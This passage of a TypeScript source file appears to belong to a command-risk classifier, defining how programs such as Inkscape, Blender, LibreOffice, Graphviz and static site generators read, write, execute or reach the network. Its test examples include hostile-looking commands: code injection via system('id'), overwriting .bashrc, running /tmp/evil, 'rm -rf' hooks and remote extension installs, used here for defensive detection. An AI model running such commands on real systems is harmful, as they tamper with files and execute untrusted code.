  }
}

function tidy(call: Call): void {
  const { ctx } = call;
  const inputs: Field[] = [];
  let modify = false;
  walk(
    call,
    own(call),
    (t) => {
      if (!t.startsWith('-') || t === '-') return undefined;
      if (t.startsWith('--')) return t.includes('=') ? 0 : 1;
      return /^-(o|output|f|file|config|wrap|w|access|language|lang|help-option)$/.test(t) ? 1 : 0;
    },
    (name, [v], field) => {
      const eq = field.text.indexOf('=');
      const value = v ?? (eq > 0 ? f(field, field.text.slice(eq + 1)) : undefined);
      const option = eq > 0 ? name.slice(0, eq) : name;
      if (option === '-m' || option === '-modify') modify = true;
      if (!value) return;
      if (/^(-o|-output|--output-file|-f|-file|--error-file)$/.test(option)) ctx.apply('write', value);
      else if (option === '-config') ctx.apply('read', value);
      else if ((option === '--write-back' || option === '--modify') && /^(y|yes|true|1)$/i.test(value.text))
        modify = true;
    },
    (v) => inputs.push(v),
  );
  for (const input of inputs) ctx.apply(modify ? 'write' : 'read', input);
  if (modify) for (const input of inputs) ctx.apply('read', input);
}

/** Cow files that ship with cowsay (a plain name is looked up in its own folder). */
const COWS = new Set(
  (
    'default apt bud-frogs bunny calvin cheese cock cower daemon dragon dragon-and-cow duck elephant elephant-in-snake eyes ' +
    'flaming-sheep fox ghostbusters gnu hellokitty kangaroo kiss kitty koala kosh llama luke-koala mech-and-cow meow milk ' +
    'moofasa moose mutilated ren sheep skeleton small stegosaurus stimpy suse supermilker surgery three-eyes turkey turtle ' +
    'tux udder vader vader-koala www beavis.zen blowfish bong head-in lollerskates telebears'
  ).split(' '),
);

const APPS_DOCS_SITES = definePrograms([
  {
    names: ['inkscape'],
    summary: 'edit and export vector graphics',
    options: {
      '-o|--export-filename': 'write',
      '--actions': { takes: 'value', unknown: 'runs actions, which can write files and run extensions' },
      '--actions-file': {
        takes: 'read',
        unknown: 'runs actions from a file, which can write files and run extensions',
      },
      '--shell': { unknown: 'reads commands from the terminal' },
      '--verb': { takes: 'value', unknown: 'runs verbs, which can write files and run extensions' },
      '--export-png|--export-pdf|--export-eps|--export-ps|--export-emf|--export-wmf': 'write',
      '--export-type': 'value',
      '-a|--export-area|-d|--export-dpi|-w|--export-width|-h|--export-height|-i|--export-id|--export-background|-b|--export-background-opacity|-y|--export-page|--export-margin|--export-ps-level|--export-pdf-version|--export-png-color-mode|--export-png-compression|--export-png-antialias|--export-png-use-dithering|--pdf-page|--convert-dpi-method|-I|--query-id|--app-id-tag|--select':
        'value',
      '--export-overwrite|-p|--pipe|-g|--with-gui|--batch-process|-l|--export-plain-svg|-T|--export-text-to-path|-D|--export-area-drawing|-C|--export-area-page|--export-area-snap|-j|--export-id-only|--export-latex|--export-ignore-filters|--pdf-poppler|--no-convert-text-baseline-spacing|--vacuum-defs|-S|--query-all|-X|--query-x|-Y|--query-y|-W|--query-width|-H|--query-height|--system-data-directory|--user-data-directory|-V|--version|-?|--help|--debug-info|-q|--active-window':
        'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      if (call.has('--export-overwrite')) for (const input of call.operands) ctx.apply('write', input);
      const types = call.values('--export-type')[0];
      if (types && !call.has('-o', '--export-filename'))
        for (const input of call.operands)
          for (const type of types.text.split(','))
            ctx.apply('write', f(input, `${stem(input.text)}.${type}`));
    },
    examples: [
      { cmd: 'inkscape drawing.svg', reads: ['drawing.svg'], only: true },
      {
        cmd: 'inkscape -w 512 -h 512 icon.svg -o icon.png',
        reads: ['icon.svg'],
        writes: ['icon.png'],
        only: true,
      },
      { cmd: 'inkscape --export-type=pdf,png a.svg', writes: ['a.pdf', 'a.png'], only: true },
      {
        cmd: "inkscape --actions='select-all;export-filename:/h/.bashrc;export-do' a.svg",
        unknown: 'actions',
      },
      { cmd: 'inkscape --shell', unknown: 'terminal' },
    ],
  },
  {
    names: ['gimp', 'gimp-console'],
    summary: 'edit raster images',
    options: {
      '-b|--batch': { takes: 'value', unknown: 'runs batch commands (Script-Fu or Python code)' },
      '--batch-interpreter': { takes: 'value', unknown: 'runs batch commands with a chosen interpreter' },
      '-g|--gimprc|--system-gimprc': {
        takes: 'read',
        unknown: 'reads a configuration file, which can name plug-in folders',
      },
      '--session|--display|--stack-trace-mode|--pdb-compat-mode': 'value',
      '-i|--no-interface|-d|--no-data|-f|--no-fonts|-s|--no-splash|-n|--new-instance|-a|--as-new|--verbose|--version|-v|-h|--help|--help-all|--help-gtk|--help-gegl|--console-messages|--no-shm|--no-cpu-accel|--dump-gimprc|--dump-gimprc-system|--dump-gimprc-manpage|--quit|--show-playground|-c|--show-debug-menu|--debug-handlers|--g-fatal-warnings':
        'flag',
    },
    operands: ['read...'],
    examples: [
      { cmd: 'gimp photo.xcf', reads: ['photo.xcf'], only: true },
      { cmd: "gimp -i -b '(gimp-quit 0)'", unknown: 'batch commands' },
    ],
  },
  {
    names: ['blender'],
    summary: 'Blender: 3D modelling and rendering',
    operands: ['value...'],
    rewrite: OWN,
    custom: blender,
    examples: [
      {
        cmd: 'blender -b scene.blend -o //render/frame_#### -F PNG -f 1',
        reads: ['scene.blend'],
        writes: ['render/frame_*'],
        only: true,
      },
      {
        cmd: 'blender -b scene.blend -o /tmp/out -a',
        writes: ['/tmp/out*'],
        only: true,
        reads: ['scene.blend'],
      },
      { cmd: 'blender -b -P build.py -- --arg', executes: ['build.py'] },
      { cmd: 'blender -b --python-expr \'import os; os.system("id")\'', executes: ['inline:python'] },
      { cmd: 'blender -b scene.blend --python-text Init', unknown: 'Python stored' },
      { cmd: 'blender -y scene.blend', unknown: 'Python scripts' },
      { cmd: 'blender --python-console', unknown: 'Python console' },
      { cmd: 'blender -c extension install -s https://x.example/a.zip', unknown: 'installs extensions' },
    ],
  },
  {
    names: [
      'libreoffice',
      'soffice',
      'lowriter',
      'localc',
      'loimpress',
      'lodraw',
      'lomath',
      'lobase',
      'loweb',
      'ooffice',
    ],
    summary: 'LibreOffice: open, convert and print office documents',
    options: {
      [both('convert-to', 'printer-name', 'infilter', 'pt', 'language', 'display', 'splash-pipe')]: 'value',
      [both('outdir')]: 'value',
      [both('accept', 'unaccept')]: 'value',
      [both(
        'headless',
        'invisible',
        'norestore',
        'nologo',
        'nodefault',
        'nolockcheck',
        'nofirststartwizard',
        'minimized',
        'safe-mode',
        'terminate_after_init',
        'writer',
        'calc',
        'draw',
        'impress',
        'math',
        'base',
        'web',
        'global',
        'view',
        'show',
        'quickstart',
        'help',
        'version',
        'cat',
        'print-to-file',
        'p',
        'o',
        'n',
        'h',
      )]: 'flag',
    },
    operands: ['value...'],
    custom: libreoffice,
    examples: [
      {
        cmd: 'soffice --headless --convert-to pdf --outdir out report.docx',
        reads: ['report.docx'],
        writes: ['out/*'],
        only: true,
      },
      {
        cmd: 'libreoffice --headless --convert-to csv data.xlsx',
        reads: ['data.xlsx'],
        writes: ['./*'],
        only: true,
      },
      { cmd: 'lowriter notes.odt', reads: ['notes.odt'], only: true },
      { cmd: "soffice --headless 'macro:///Standard.Module1.Main'", unknown: 'macro' },
      {
        cmd: 'soffice "vnd.sun.star.script:Lib.Mod.Run?language=Basic&location=application"',
        unknown: 'macro',
      },
      { cmd: 'soffice --headless --accept="socket,host=0,port=2002;urp;"', unknown: 'UNO' },
    ],
  },
  {
    names: ['unoconv'],
    summary: 'convert documents with LibreOffice',
    options: {
      '-f|--format|-e|--export|-i|--import|-d|--doctype|-T|--timeout|-P|--printer|-F|--field|-p|--port|--pipe|--user-profile':
        'value',
      '-o|--output': 'value',
      '-t|--template': 'read',
      '-c|--connection': 'value',
      '-s|--server': 'host',
      '-l|--listener': { network: true, unknown: 'listens for remote-control (UNO) connections' },
      '-n|--no-launch|--stdout|--stdin|-v|--verbose|--show|--preserve|-h|--help|--version': 'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      const out = call.values('-o', '--output')[0];
      const format = call.values('-f', '--format')[0]?.text ?? 'pdf';
      for (const v of call.operands) {
        if (v.known && /^(macro:|vnd\.sun\.star\.script:)/i.test(v.text))
          ctx.unknown(`\`${call.program}\` runs a macro (\`${v.text}\`)`);
        else ctx.apply('read', v);
        if (!out && !call.has('--stdout') && v.known) ctx.apply('write', f(v, `${stem(v.text)}.${format}`));
      }
      if (out) ctx.apply(out.text.endsWith('/') ? 'write-into' : 'write', out);
      for (const connection of call.values('-c', '--connection')) {
        const host = /host=([^,;]+)/.exec(connection.text)?.[1];
        if (host) ctx.host(host);
      }
    },
    examples: [
      { cmd: 'unoconv -f pdf report.docx', reads: ['report.docx'], writes: ['report.pdf'], only: true },
      { cmd: 'unoconv -f pdf -o out/ a.docx', writes: ['out/*'], only: true },
      { cmd: 'unoconv --listener', unknown: 'UNO' },
    ],
  },
  {
    names: ['dot', 'neato', 'circo', 'fdp', 'sfdp', 'twopi', 'osage', 'patchwork'],
    summary: 'Graphviz: lay out and render graphs',
    options: {
      '-o': 'write',
      '-T|-K|-G|-N|-E|-L': 'value',
      '-l': 'read',
      '-O|-v|-V|-q|-y|-x|-n|-s|-P|-?': 'flag',
      '-c': { risk: 'system-change' },
    },
    operands: ['read...'],
    custom: graphviz,
    examples: [
      { cmd: 'dot -Tpng graph.dot -o graph.png', reads: ['graph.dot'], writes: ['graph.png'], only: true },
      {
        cmd: 'dot -Tsvg -Gdpi=300 -Nshape=box -ograph.svg graph.dot',
        reads: ['graph.dot'],
        writes: ['graph.svg'],
        only: true,
      },
      { cmd: 'neato -Tpdf -O a.gv b.gv', writes: ['a.gv.*', 'b.gv.*'], only: true },
      { cmd: 'sudo dot -c', risks: ['system-change'] },
    ],
  },
  {
    names: ['gvpr'],
    summary: 'Graphviz: transform graphs with a small program',
    options: {
      '-f': { takes: 'read', unknown: 'runs a gvpr program from a file, which can run shell commands' },
      '-o': 'write',
      '-a': 'value',
      '-c|-i|-n|-q|-v|-V|-?': 'flag',
    },
    operands: ['value...'],
    custom: gvpr,
    examples: [
      {
        cmd: 'gvpr -c \'N[color=="red"]{delete(root,$)}\' g.dot -o out.dot',
        reads: ['g.dot'],
        writes: ['out.dot'],
        only: true,
      },
      { cmd: 'gvpr \'BEGIN{system("id")}\' g.dot', unknown: 'shell commands' },
      { cmd: 'gvpr -f prog.g g.dot', unknown: 'gvpr program' },
    ],
  },
  {
    names: ['plantuml'],
    summary: 'render PlantUML diagrams',
    operands: ['value...'],
    rewrite: OWN,
    custom: plantuml,
    examples: [
      { cmd: 'plantuml -tsvg docs/arch.puml', reads: ['docs/arch.puml'], writes: ['docs/*'], only: true },
      { cmd: 'plantuml -o out diagrams', reads: ['diagrams'], writes: ['diagrams/out/*'], only: true },
      { cmd: 'plantuml -picoweb:8080:0.0.0.0', unknown: 'serves' },
      { cmd: 'plantuml -graphvizdot /tmp/evil a.puml', executes: ['/tmp/evil'] },
    ],
  },
  {
    names: ['mmdc'],
    summary: 'mermaid-cli: render Mermaid diagrams',
    options: {
      '-i|--input': 'read',
      '-o|--output': 'value',
      '-p|--puppeteerConfigFile|-c|--configFile|-C|--cssFile': 'read',
      '-a|--artefacts': 'write-into',
      '-t|--theme|-b|--backgroundColor|-w|--width|-H|--height|-s|--scale|-I|--svgId|-e|--outputFormat|--iconPacks|--iconPacksNamesAndUrls':
        'value',
      '-q|--quiet|-f|--pdfFit|-h|--help|-V|--version': 'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      const input = call.values('-i', '--input')[0];
      const out = call.values('-o', '--output')[0];
      if (out) {
        if (out.text === '-') return;
        ctx.apply('write', out);
        if (input?.known && /\.md$/i.test(input.text)) ctx.apply('write', f(out, `${stem(out.text)}-*`));
      } else if (input?.known && input.text !== '-') ctx.apply('write', f(input, `${input.text}.svg`));
    },
    examples: [
      {
        cmd: 'mmdc -i flow.mmd -o flow.svg -t dark -b transparent',
        reads: ['flow.mmd'],
        writes: ['flow.svg'],
        only: true,
      },
      { cmd: 'mmdc -i README.md -o out.md', writes: ['out.md', 'out-*'], only: true, reads: ['README.md'] },
    ],
  },
  {
    names: ['asciidoctor', 'asciidoctor-pdf', 'asciidoctor-epub3', 'asciidoctor-revealjs', 'asciidoctorj'],
    summary: 'convert AsciiDoc documents',
    options: {
      '-o|--out-file': 'write',
      '-D|--destination-dir': 'write-into',
      '-R|--source-dir|-B|--base-dir': 'read-tree',
      '-r|--require': 'value',
      '-T|--template-dir': { takes: 'read-tree', unknown: 'renders with templates, which are Ruby code' },
      '--theme': 'read',
      '-E|--template-engine|-b|--backend|-d|--doctype|-a|--attribute|-S|--safe-mode|--failure-level|--log-level|-I|--load-path':
        'value',
      '-s|--no-header-footer|-e|--embedded|-n|--section-numbers|-q|--quiet|-v|--verbose|-w|--warnings|-t|--timings|--trace|--safe|--sourcemap|-h|--help|-V|--version':
        'flag',
    },
    operands: ['value...'],
    custom: asciidoctor,
    examples: [
      { cmd: 'asciidoctor README.adoc', reads: ['README.adoc'], writes: ['README.html'], only: true },
      {
        cmd: 'asciidoctor -r asciidoctor-diagram -b html5 -D build docs/index.adoc',
        writes: ['build/*'],
        only: true,
      },
      {
        cmd: 'asciidoctor-pdf --theme theme.yml manual.adoc',
        reads: ['theme.yml'],
        writes: ['manual.pdf'],
        only: true,
      },
      { cmd: 'asciidoctor -r ./ext.rb doc.adoc', executes: ['ext.rb'], unknown: 'Ruby code' },
      { cmd: 'asciidoctor -r evil-gem doc.adoc', unknown: 'Ruby code' },
      { cmd: 'asciidoctor -T templates doc.adoc', unknown: 'templates' },
    ],
  },
  {
    names: ['asciidoc', 'asciidoc.py', 'a2x'],
    summary: 'convert AsciiDoc documents (Python AsciiDoc)',
    options: {
      '-o|--out-file': 'write',
      '-D|--destination-dir': 'write-into',
      '-b|--backend|-d|--doctype|-a|--attribute|--theme|-f|--format|--asciidoc-opts|--dblatex-opts|--fop-opts|--xsltproc-opts|--backend-opts|--stylesheet|--icons-dir|-r|--resource':
        'value',
      '--conf-file|-c': {
        takes: 'read',
        unknown: 'reads a configuration file, which can define filters that run commands',
      },
      '--xsl-file|-m|--resource-manifest': 'read',
      '-s|--no-header-footer|-e|--no-conf|-n|--section-numbers|-v|--verbose|--safe|--unsafe|--dump-conf|-h|--help|--version|-k|--keep-artifacts|--no-xmllint|-L|--icons|--epubcheck|--fop|--dblatex|--dry-run|--skip-asciidoc|--lynx':
        'flag',
    },
    operands: ['read...'],
    custom(call) {
      const { ctx } = call;
      if (call.program !== 'a2x' && call.has('-f') && !call.has('--conf-file', '-c'))
        ctx.unknown(
          `\`${call.program} -f\` reads a configuration file, which can define filters that run commands`,
        );
      if (!call.has('--safe')) ctx.executes('{sys:} commands and filters in the AsciiDoc document');
      if (call.has('-o', '--out-file', '-D', '--destination-dir')) return;
      for (const input of call.operands)
        if (input.known && input.text !== '-')
          ctx.apply(
            call.program === 'a2x' ? 'write-into' : 'write',
            f(input, call.program === 'a2x' ? dirname(input.text) : `${stem(input.text)}.html`),
          );
    },
    examples: [
      { cmd: 'asciidoc -b html5 doc.txt', reads: ['doc.txt'], writes: ['doc.html'], only: true },
      { cmd: 'a2x -f pdf doc.txt', reads: ['doc.txt'], writes: ['./*'], only: true },
      { cmd: 'asciidoc -f evil.conf doc.txt', unknown: 'filters' },
    ],
  },
  {
    names: ['sphinx-build'],
    summary: 'build Sphinx documentation',
    options: {
      '-b|--builder|-M': 'value',
      '-d|--doctree-dir': 'write-tree',
      '-c|--conf-dir': 'read-tree',
      '-D|--define|-A|--html-define|-t|--tag|-j|--jobs': 'value',
      '-w|--warning-file': 'write',
      '-a|--write-all|-E|--fresh-env|-N|--no-color|--color|-v|--verbose|-q|--quiet|-Q|--silent|-W|--fail-on-warning|--keep-going|-T|--show-traceback|-P|--pdb|-n|--nitpicky|-C|--isolated|--exception-on-warning|-h|--help|--version':
        'flag',
    },
    operands: ['read-tree', 'write-tree', 'read...'],
    custom(call) {
      if (!call.has('-C', '--isolated')) call.ctx.executes('Sphinx conf.py and the extensions it loads');
    },
    examples: [
      {
        cmd: 'sphinx-build -b html -W docs docs/_build/html',
        reads: ['docs/**'],
        writes: ['docs/_build/html', 'docs/_build/html/**'],
        only: true,
      },
      {
        cmd: 'sphinx-build -M latexpdf source build',
        reads: ['source/**'],
        writes: ['build', 'build/**'],
        only: true,
      },
    ],
  },
  {
    names: ['sphinx-autobuild'],
    summary: 'rebuild Sphinx documentation on change and serve it',
    options: {
      '-b|--builder|-M|-D|--define|-A|-t|--tag|-j|--jobs|--port|--watch|--ignore|--re-ignore|--delay':
        'value',
      '--host': 'value',
      '--pre-build|--post-build': 'command',
      '-d|--doctree-dir': 'write-tree',
      '-c|--conf-dir': 'read-tree',
      '-a|-E|-N|-q|-Q|-W|--keep-going|-T|-n|--open-browser|--no-initial|--version|-h|--help': 'flag',
    },
    operands: ['read-tree', 'write-tree', 'read...'],
    custom(call) {
      call.ctx.executes('Sphinx conf.py and the extensions it loads');
      serves(call, call.values('--host')[0], 'the documentation');
    },
    examples: [
      {
        cmd: 'sphinx-autobuild docs docs/_build/html',
        network: true,
        writes: ['docs/_build/html', 'docs/_build/html/**'],
        only: true,
      },
      { cmd: 'sphinx-autobuild --host 0.0.0.0 docs out', unknown: 'serves' },
      { cmd: "sphinx-autobuild --pre-build 'rm -rf /tmp/x' docs out", runs: ['rm'] },
    ],
  },
  {
    names: ['sphinx-apidoc', 'sphinx-quickstart'],
    summary: 'generate Sphinx sources (API pages, a new project)',
    options: {
      '-o|--output-dir': 'write-tree',
      '-t|--templatedir': 'read-tree',
      '-s|--suffix|-d|--maxdepth|--tocfile|-H|--doc-project|-A|--doc-author|-V|--doc-version|-R|--doc-release|--extensions|-p|--project|-a|--author|-v|--release|-r|-l|--language|--master':
        'value',
      '-f|--force|-l|--follow-links|-n|--dry-run|-T|--no-toc|-F|--full|--append-syspath|-e|--separate|-E|--no-headings|-P|--private|--implicit-namespaces|-M|--module-first|-q|--quiet|--remove-old|--sep|--dot|--makefile|--no-makefile|--batchfile|--no-batchfile|--use-make-mode|--version|-h|--help':
        'flag',
    },
    operands: (call) => (call.program === 'sphinx-quickstart' ? ['write-tree'] : ['read-tree', 'value...']),
    examples: [
      {
        cmd: 'sphinx-apidoc -o docs/api src/pkg',
        reads: ['src/pkg/**'],
        writes: ['docs/api', 'docs/api/**'],
        only: true,
      },
      { cmd: 'sphinx-quickstart -q -p Proj -a Me docs', writes: ['docs', 'docs/**'], only: true },
    ],
  },
  {
    names: ['mkdocs'],
    summary: 'MkDocs: build, serve and publish documentation sites',
    options: { '-q|--quiet|-v|--verbose|-h|--help|-V|--version': 'flag' },
    subcommands: {
      build: {
        options: {
          '-f|--config-file': 'read',
          '-d|--site-dir': 'write-tree',
          '-t|--theme': 'value',
          '-c|--clean|--dirty|-s|--strict|--use-directory-urls|--no-directory-urls': 'flag',
        },
        custom(call) {
          call.ctx.read(`${call.ctx.path('docs')}/**`);
          if (!call.has('-d', '--site-dir')) call.ctx.apply('write-tree', f(DOT, 'site'));
          call.ctx.executes(`MkDocs ${SITE_BUILD}`);
        },
      },
      serve: {
        options: {
          '-a|--dev-addr': 'value',
          '-f|--config-file': 'read',
          '-t|--theme|-w|--watch': 'value',
          '--livereload|--no-livereload|--dirty|-c|--clean|-s|--strict|--watch-theme|-o|--open|--dirtyreload|--use-directory-urls|--no-directory-urls':
            'flag',
        },
        custom(call) {
          call.ctx.read(`${call.ctx.path('docs')}/**`);
          call.ctx.executes(`MkDocs ${SITE_BUILD}`);
          serves(call, call.values('-a', '--dev-addr')[0], 'the documentation');
        },
      },
      'gh-deploy': {
        options: {
          '-m|--message|-b|--remote-branch|-r|--remote-name|-t|--theme': 'value',
          '-d|--site-dir': 'write-tree',
          '-f|--config-file': 'read',
          '--force|--no-history': { risk: 'history-rewrite' },
          '--ignore-version|--shell|-c|--clean|--dirty|-s|--strict|--no-jekyll|--use-directory-urls|--no-directory-urls':
            'flag',
        },
        effects: { network: true, sends: true },
        custom(call) {
          if (!call.has('-d', '--site-dir')) call.ctx.apply('write-tree', f(DOT, 'site'));
          call.ctx.executes(`MkDocs ${SITE_BUILD}`);
        },
      },
      new: { operands: ['write-tree'] },
      'get-deps': { options: { '-f|--config-file|-p|--projects-file': 'read' }, readonly: true },
    },
    examples: [
      { cmd: 'mkdocs build --strict', reads: ['docs/**'], writes: ['site', 'site/**'], only: true },
      { cmd: 'mkdocs serve', network: true, only: true },
      { cmd: 'mkdocs serve -a 0.0.0.0:8000', unknown: 'serves', risks: ['exfiltration'] },
      { cmd: 'mkdocs serve -a 127.0.0.1:8001', network: true, only: true },
      { cmd: 'mkdocs serve -a [::1]:8001', network: true, only: true },
      { cmd: 'mkdocs gh-deploy --force', risks: ['exfiltration', 'history-rewrite'], network: true },
    ],
  },
  {
    names: ['hugo'],
    summary: 'Hugo: build, serve and deploy static sites',
    options: HUGO_OPTIONS,
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      ctx.read(`${ctx.path('.')}/**`);
      if (!call.has('-d', '--destination')) ctx.apply('write-tree', f(DOT, 'public'));
    },
    subcommands: {
      build: {
        custom(call) {
          call.ctx.read(`${call.ctx.path('.')}/**`);
          if (!call.has('-d', '--destination')) call.ctx.apply('write-tree', f(DOT, 'public'));
        },
      },
      'server|serve': {
        custom(call) {
          call.ctx.read(`${call.ctx.path('.')}/**`);
          if (call.has('--renderToDisk') && !call.has('-d', '--destination'))
            call.ctx.apply('write-tree', f(DOT, 'public'));
          serves(call, call.values('--bind')[0], 'the site');
        },
      },
      deploy: { effects: { network: true, sends: true } },
      new: { operands: ['value...'], custom: hugoNew },
      mod: {
        subcommands: {
          'get|tidy|vendor|verify|npm': {
            effects: { network: true },
            operands: ['value...'],
            custom: (call) => call.ctx.write(`${call.ctx.path('.')}/*`),
          },
          '*': { operands: ['value...'] },
        },
      },
      'version|env|config|list|completion|help|gen': { operands: ['value...'] },
    },
    examples: [
      { cmd: 'hugo --minify', writes: ['public', 'public/**'], only: true },
      { cmd: 'hugo -s site -d out', writes: ['site/out', 'site/out/**'], only: true },
      { cmd: 'hugo server -D', network: true, only: true },
      { cmd: 'hugo server --bind 0.0.0.0', unknown: 'serves', risks: ['exfiltration'] },
      { cmd: 'hugo deploy --target prod', risks: ['exfiltration'], network: true },
      { cmd: 'hugo new site blog', writes: ['blog', 'blog/**'], only: true },
      { cmd: 'hugo new content posts/first.md', writes: ['content/posts/first.md'], only: true },
      { cmd: 'hugo version', only: true },
    ],
  },
  {
    names: ['jekyll'],
    summary: 'Jekyll: build and serve static sites',
    subcommands: {
      'build|b': { options: JEKYLL_BUILD, custom: jekyllBuild },
      'serve|server|s': {
        options: {
          ...JEKYLL_BUILD,
          '-H|--host|-P|--port|--livereload-port|--livereload-ignore|--livereload-min-delay|--livereload-max-delay|-o|--open-url':
            'value',
          '--ssl-cert|--ssl-key': 'read',
          '-B|--detach': { unknown: 'keeps serving in the background' },
          '-l|--livereload|--skip-initial-build|--show-dir-listing|--no-watch': 'flag',
        },
        custom(call) {
          jekyllBuild(call);
          serves(call, call.values('-H', '--host')[0], 'the site');
        },
      },
      new: {
        options: { '--force|--blank|--skip-bundle': 'flag' },
        operands: ['write-tree'],
        custom(call) {
          if (!call.has('--skip-bundle', '--blank')) {
            call.ctx.network();
            call.ctx.executes('bundle install of the new site');
          }
        },
      },
      'new-theme': { operands: ['write-tree'] },
      clean: {
        custom(call) {
          for (const dir of ['_site', '.jekyll-cache', '.sass-cache'])
            call.ctx.apply('delete-tree', f(DOT, dir));
          call.ctx.apply('delete', f(DOT, '.jekyll-metadata'));
        },
      },
      'doctor|hyde|help|--version|-v|--help|-h': { readonly: true, operands: ['value...'] },
    },
    examples: [
      { cmd: 'jekyll build', writes: ['_site', '_site/**'], only: true },
      { cmd: 'jekyll serve --livereload', network: true, only: true, writes: ['_site', '_site/**'] },
      { cmd: 'jekyll serve --host 0.0.0.0', unknown: 'serves' },
      { cmd: 'jekyll clean', deletes: ['_site/**', '.jekyll-cache/**'] },
    ],
  },
  {
    names: ['zola'],
    summary: 'Zola: build and serve static sites',
    options: { '-r|--root': 'cwd', '-c|--config': 'read', '-h|--help|-V|--version': 'flag' },
    subcommands: {
      build: {
        options: {
          '-o|--output-dir': 'write-tree',
          '-u|--base-url': 'value',
          '--drafts|-f|--force|--minify': 'flag',
        },
        custom(call) {
          if (!call.has('-o', '--output-dir')) call.ctx.apply('write-tree', f(DOT, 'public'));
        },
      },
      serve: {
        options: {
          '-i|--interface': 'value',
          '-p|--port|-u|--base-url': 'value',
          '-o|--output-dir': 'write-tree',
          '--open|--fast|--no-port-append|--drafts|--store-html|-f|--force': 'flag',
        },
        custom: (call) => serves(call, call.values('-i', '--interface')[0], 'the site'),
      },
      check: {
        options: { '--drafts|--skip-external-links': 'flag' },
        custom(call) {
          if (!call.has('--skip-external-links')) call.ctx.network();
        },
      },
      init: { options: { '-f|--force': 'flag' }, operands: ['write-tree'] },
      completion: { operands: ['value...'] },
    },
    examples: [
      { cmd: 'zola build', writes: ['public', 'public/**'], only: true },
      { cmd: 'zola serve', network: true, only: true },
      { cmd: 'zola serve -i 0.0.0.0', unknown: 'serves' },
      { cmd: 'zola check --skip-external-links', only: true },
    ],
  },
  {
    names: ['hexo'],
    summary: 'Hexo: build, serve and deploy blogs',
    options: {
      '--config': 'read',
      '--cwd': 'cwd',
      '--debug|--safe|--silent|--draft|-h|--help|-v|--version': 'flag',
    },
    subcommands: {
      'generate|g': {
        options: {
          '-d|--deploy': { network: true },
          '-w|--watch|-b|--bail|-f|--force': 'flag',
          '-c|--concurrency': 'value',
        },
        custom(call) {
          call.ctx.apply('write-tree', f(DOT, 'public'));
          if (!call.has('--safe')) call.ctx.executes(`Hexo ${SITE_BUILD}`);
          if (call.has('-d', '--deploy')) call.ctx.sends();
        },
      },
      'server|s': {
        options: { '-p|--port': 'value', '-i|--ip': 'value', '-s|--static|-l|--log|-o|--open': 'flag' },
        custom(call) {
          if (!call.has('--safe')) call.ctx.executes(`Hexo ${SITE_BUILD}`);
          // hexo-server listens on every interface unless told otherwise.
          serves(call, call.values('-i', '--ip')[0], 'the site', false);
        },
      },
      'deploy|d': {
        options: { '-g|--generate': 'flag' },
        effects: { network: true, sends: true },
        custom(call) {
          if (!call.has('--safe')) call.ctx.executes(`Hexo ${SITE_BUILD}`);
        },
      },
      'new|n': {
        options: { '-p|--path|-s|--slug': 'value', '-r|--replace': 'flag' },
        operands: ['value...'],
        custom: (call) => call.ctx.apply('write-tree', f(DOT, 'source')),
      },
      clean: {
        custom(call) {
          call.ctx.apply('delete-tree', f(DOT, 'public'));
          call.ctx.apply('delete', f(DOT, 'db.json'));
        },
      },
      init: {
        options: { '--no-clone|--no-install|--clone': 'flag' },
        operands: ['write-tree'],
        custom(call) {
          call.ctx.network();
          if (!call.has('--no-install')) call.ctx.executes('package lifecycle scripts');
        },
      },
      '*': { operands: ['value...'] },
    },
    examples: [
      { cmd: 'hexo generate', writes: ['public', 'public/**'], only: true },
      { cmd: 'hexo server -i 127.0.0.1', network: true, only: true },
      { cmd: 'hexo server', unknown: 'serves' },
      { cmd: 'hexo g -d', risks: ['exfiltration'] },
      { cmd: 'hexo clean', deletes: ['public/**', 'db.json'] },
    ],
  },
  {
    names: ['eleventy'],
    summary: 'Eleventy: build and serve static sites',
    options: {
      '--input': 'read-tree',
      '--output': 'write-tree',
      '--config': 'value',
      '--port|--formats|--pathprefix|--to|--incremental': 'value',
      '--serve|--watch|--quiet|--dryrun|--ignore-initial|--version|--help': 'flag',
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      ctx.executes(`Eleventy ${SITE_BUILD}`);
      for (const config of call.values('--config')) ctx.runsFile(config, 'code:javascript');
      if (!call.has('--input')) ctx.read(`${ctx.path('.')}/**`);
      if (!call.has('--output', '--dryrun')) ctx.apply('write-tree', f(DOT, '_site'));
      // Eleventy's dev server listens on every interface.
      if (call.has('--serve')) serves(call, undefined, 'the site', false);
    },
    examples: [
      {
        cmd: 'eleventy --input=src --output=dist',
        reads: ['src/**'],
        writes: ['dist', 'dist/**'],
        only: true,
      },
      { cmd: 'eleventy --serve', unknown: 'serves the site', writes: ['_site', '_site/**'] },
    ],
  },
  {
    names: ['docusaurus'],
    summary: 'Docusaurus: build, serve and deploy documentation sites',
    options: { '--config': 'read', '-h|--help|-V|--version': 'flag' },
    subcommands: {
      start: {
        options: { '--host|--port|--locale|--poll': 'value', '--hot-only|--no-open|--no-minify': 'flag' },
        custom(call) {
          call.ctx.executes(`Docusaurus ${SITE_BUILD}`);
          serves(call, call.values('--host')[0], 'the site');
        },
      },
      build: {
        options: {
          '--out-dir': 'write-tree',
          '--locale': 'value',
          '--bundle-analyzer|--no-minify|--dev': 'flag',
        },
        custom(call) {
          call.ctx.executes(`Docusaurus ${SITE_BUILD}`);
          if (!call.has('--out-dir')) call.ctx.apply('write-tree', f(DOT, 'build'));
        },
      },
      serve: {
        options: { '--dir': 'read-tree', '--host|--port': 'value', '--build|--no-open': 'flag' },
        custom: (call) => serves(call, call.values('--host')[0], 'the built site'),
      },
      deploy: {
        options: { '--out-dir': 'write-tree', '--target-dir|--locale': 'value', '--skip-build': 'flag' },
        effects: { network: true, sends: true },
        custom: (call) => call.ctx.executes(`Docusaurus ${SITE_BUILD}`),
      },
      swizzle: {
        options: { '--typescript|--javascript|--eject|--wrap|--danger|--list': 'flag' },
        operands: ['value...'],
        custom: (call) => call.ctx.apply('write-tree', f(DOT, 'src/theme')),
      },
      clear: {
        custom(call) {
          for (const dir of ['.docusaurus', 'build', 'node_modules/.cache'])
            call.ctx.apply('delete-tree', f(DOT, dir));
        },
      },
      '*': {
        operands: ['value...'],
        custom(call) {
          call.ctx.executes(`Docusaurus ${SITE_BUILD}`);
          call.ctx.write(`${call.ctx.path('.')}/**`);
        },
      },
    },
    examples: [
